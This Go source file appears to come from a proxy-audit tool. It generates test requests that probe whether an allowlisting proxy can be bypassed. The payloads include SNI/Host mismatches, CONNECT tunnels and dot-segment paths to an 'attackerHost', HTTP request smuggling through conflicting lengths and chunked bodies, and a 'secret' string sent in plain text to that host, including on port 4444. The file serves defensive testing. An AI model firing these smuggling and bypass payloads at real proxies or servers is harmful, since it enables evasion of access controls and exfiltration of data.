package attack

import (
	"slices"
	"strconv"
	"strings"
)

// UserAgent stands in every payload of Wire, so that who writes many of them can
// put a name of its own there.
const UserAgent = "proxaudit-corpus"

// wire is what only bytes can say, against the first permitted URL that is read
// over TLS: two names for one connection, two requests in one, two spellings of a
// host or a path that no URL has.
func (m *mutating) wire(bases []base) {
	m.unread(bases)
	i := slices.IndexFunc(bases, func(b base) bool { return b.reads() && b.scheme == "https" && isName(b.host) })
	if i < 0 {
		return
	}
	b := bases[i]
	w := wiring{m, b}
	field := "User-Agent: " + UserAgent + "\r\n"
	request := func(target, host string) string {
		return "GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\n" + field + "Connection: close\r\n\r\n"
	}
	put := "PUT " + b.path + " HTTP/1.1\r\nHost: " + b.host + "\r\n" + field + "Connection: close\r\nContent-Length: 6\r\n\r\nsecret"

	w.names(request)
	w.tls("absolute form of another host", b.host, request("https://"+attackerHost+loot, b.host))
	w.tls("absolute form of another path", b.host, request(b.origin()+loot, b.host))
	w.tls("dot segments on the wire", b.host, request(b.path+strings.Repeat("/..", strings.Count(b.path, "/"))+loot, b.host))
	w.tls("path without a slash", b.host, request(loot[1:], b.host))
	w.tls("fragment in the path", b.host, request(loot+"#"+b.path, b.host))
	w.tls("CONNECT inside TLS", b.host, "CONNECT "+attackerHost+":443 HTTP/1.1\r\nHost: "+attackerHost+":443\r\n"+field+"\r\n")
	w.carried("a second request behind a permitted one",
		"GET "+b.path+" HTTP/1.1\r\nHost: "+b.host+"\r\n"+field+"Content-Length: 0\r\n\r\n"+put)
	w.carried("a request in the body of a chunked one",
		"GET "+b.path+" HTTP/1.1\r\nHost: "+b.host+"\r\n"+field+"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+put)
	w.tls("two lengths", b.host, strings.Replace(put, "Content-Length: 6", "Content-Length: 6\r\nContent-Length: 0", 1))
	w.tls("method in small letters", b.host, strings.Replace(put, "PUT", "put", 1))
	w.tls("HTTP/1.0 without a host", b.host, "GET "+loot+" HTTP/1.0\r\n"+field+"\r\n")
	w.tls("a folded host", b.host, "GET "+loot+" HTTP/1.1\r\nHost: "+b.host+"\r\n "+attackerHost+"\r\n"+field+"\r\n")
	w.tls("a bare line feed", b.host, strings.ReplaceAll(put, "\r\n", "\n"))
	w.plain("plain text on the port of TLS", b.host, b.tlsPort(), put)
	w.plain("a proxy's request", attackerHost, 80, request("http://"+attackerHost+loot, attackerHost))
	w.plain("another host in plain text", attackerHost, 80, request(b.path, b.host))
	w.plain("neither TLS nor HTTP", attackerHost, 4444, "secret of "+UserAgent+"\n")
}

// unread is what may be sent where TLS passes undecrypted: a handshake with another
// host of the same server, and no handshake at all.
func (m *mutating) unread(bases []base) {
	i := slices.IndexFunc(bases, func(b base) bool { return b.opaque && isName(b.host) })
	if i < 0 {
		return
	}
	w := wiring{m, bases[i]}
	w.tls("SNI of another host where TLS passes undecrypted", attackerHost,
		"GET / HTTP/1.1\r\nHost: "+attackerHost+"\r\nUser-Agent: "+UserAgent+"\r\nConnection: close\r\n\r\n")
	w.plain("no TLS where TLS passes undecrypted", w.b.host, w.b.tlsPort(), "secret of "+UserAgent+", unencrypted\n")
}

// wiring derives wire mutations from one base.
type wiring struct {
	m *mutating
	b base
}

// names are disagreements between SNI and Host.
func (w wiring) names(request func(target, host string) string) {
	b := w.b
	w.tls("SNI permitted, Host not", b.host, request(b.path, attackerHost))
	w.tls("Host permitted, SNI not", attackerHost, request(b.path, b.host))
	w.tls("no SNI", "", request(loot, b.host))
	w.tls("two hosts", b.host, strings.Replace(request(b.path, b.host), "\r\n", "\r\nHost: "+attackerHost+"\r\n", 1))
	w.tls("Host with another port", b.host, request(b.path, b.host+":8443"))
	w.m.add(Request{
		Mutation: "connected elsewhere", Of: b.of, Class: Unknown, Method: "GET", URL: "https://" + attackerHost + b.path,
		Wire: &Wire{Host: attackerHost, Port: 443, TLS: true, ServerName: b.host, Payload: request(b.path, b.host)},
	})
}

// tls writes to the permitted host.
func (w wiring) tls(mutation, serverName, payload string) {
	w.m.add(Request{
		Mutation: mutation, Of: w.b.of, Class: Misuse, Method: firstWord(payload), URL: w.b.origin() + "/",
		Wire: &Wire{Host: w.b.host, Port: w.b.tlsPort(), TLS: true, ServerName: serverName, Payload: payload},
	})
}

// carried writes a permitted request first.
func (w wiring) carried(mutation, payload string) {
	w.m.add(Request{
		Mutation: mutation, Of: w.b.of, Class: Misuse, Method: "PUT", URL: w.b.url(),
		Wire: &Wire{Host: w.b.host, Port: w.b.tlsPort(), TLS: true, ServerName: w.b.host, Payload: payload, Carrier: true},
	})
}

func (w wiring) plain(mutation, host string, port uint16, payload string) {
	class := Unknown
	if host == w.b.host {
		class = Misuse
	}
	w.m.add(Request{
		Mutation: mutation, Of: w.b.of, Class: class, URL: "tcp://" + host + ":" + strconv.Itoa(int(port)),
		Wire: &Wire{Host: host, Port: port, Payload: payload},
	})
}

func (b *base) tlsPort() uint16 {
	if b.port != 0 {
		return b.port
	}
	return 443
}

func firstWord(s string) string {
	word, _, _ := strings.Cut(s, " ")
	return word
}
